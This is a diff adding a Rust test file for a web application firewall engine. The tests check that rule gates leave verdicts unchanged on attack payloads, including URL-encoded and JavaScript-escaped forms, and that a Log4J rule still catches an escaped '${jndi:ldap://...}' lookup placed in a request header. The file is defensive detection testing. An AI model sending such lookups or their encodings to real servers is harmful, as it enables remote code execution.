@@ -1,0 +1,96 @@
+//! Gates (`crate::gate`) only rule out values no regex set of the group could admit, and a derived field is left
+//! underived only when none of its values could: every Portcullis managed rule group gives the same verdicts,
+//! labels and counted rules with and without gates, on corpus payloads placed in each part of a request, also
+//! URL-encoded and JavaScript-escaped in headers and the query (so that the decodings create the gate's bytes).
+
+use super::joined::outcome;
+use super::needs::{all_groups_with, enc, payloads, placements};
+use super::*;
+
+/// Every byte outside `[A-Za-z0-9]` as `\xHH` (or `\u00HH` when `unicode`), as `JS_DECODE` reads them.
+fn js_escape(s: &str, unicode: bool) -> String {
+    s.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' => (b as char).to_string(),
+            _ if unicode => format!("\\u00{b:02x}"),
+            _ => format!("\\x{b:02x}"),
+        })
+        .collect()
+}
+
+/// The payload URL-encoded and JavaScript-escaped in headers, the query string and a cookie.
+fn escaped_placements(p: &str) -> Vec<Request> {
+    let (e, js, uni) = (enc(p), js_escape(p, false), js_escape(p, true));
+    vec![
+        Request::builder()
+            .method("GET")
+            .uri("/")
+            .header("X-Enc", &e)
+            .header("X-Js", &js)
+            .build(),
+        Request::builder()
+            .method("GET")
+            .uri(&format!("/a?q={}&r={}", enc(&uni), enc(&js)))
+            .header("X-Uni", &uni)
+            .build(),
+        Request::builder()
+            .method("GET")
+            .uri("/")
+            .header("Cookie", format!("a=1; s={}", enc(&js)))
+            .build(),
+    ]
+}
+
+#[test]
+fn managed_groups_give_the_same_verdicts_without_gates() {
+    let Some(payloads) = payloads() else {
+        return;
+    };
+    // Every rule counts instead of blocking, so every rule is evaluated and no earlier match hides a later one's
+    // answer.
+    let with = all_groups_with(true);
+    crate::gate::OFF.with(|o| o.set(true));
+    let without = all_groups_with(true);
+    crate::gate::OFF.with(|o| o.set(false));
+    let (mut checked, mut matched) = (0usize, 0usize);
+    for p in &payloads {
+        for req in placements(p).into_iter().chain(escaped_placements(p)) {
+            let a = outcome(&eval(&with, &req));
+            assert_eq!(a, outcome(&eval(&without, &req)), "payload {p:?}");
+            checked += 1;
+            matched += usize::from(a.1.is_some() || !a.3.is_empty());
+        }
+    }
+    eprintln!(
+        "gates: {checked} requests ({} payloads), {matched} with a match, same verdicts",
+        payloads.len()
+    );
+    assert!(
+        checked > 10_000 && matched > checked / 5,
+        "{checked} checked, {matched} matched"
+    );
+}
+
+/// The Log4J header rule, the one a derived field is left underived for on ordinary traffic, still sees a lookup
+/// that only `JS_DECODE` spells out.
+#[test]
+fn escaped_log4j_header_still_matches() {
+    let with = all_groups_with(true);
+    for v in [
+        "${jndi:ldap://x/a}".to_owned(),
+        js_escape("${jndi:ldap://x/a}", false),
+        js_escape("${jndi:ldap://x/a}", true),
+        enc("${jndi:ldap://x/a}"),
+    ] {
+        let req = Request::builder()
+            .method("GET")
+            .uri("/")
+            .header("X-Api-Version", &v)
+            .build();
+        let (_, _, _, counted) = outcome(&eval(&with, &req));
+        assert!(
+            counted.iter().any(|r| r == "Log4JRCE_HEADER"),
+            "{v}: {counted:?}"
+        );
+    }
+}
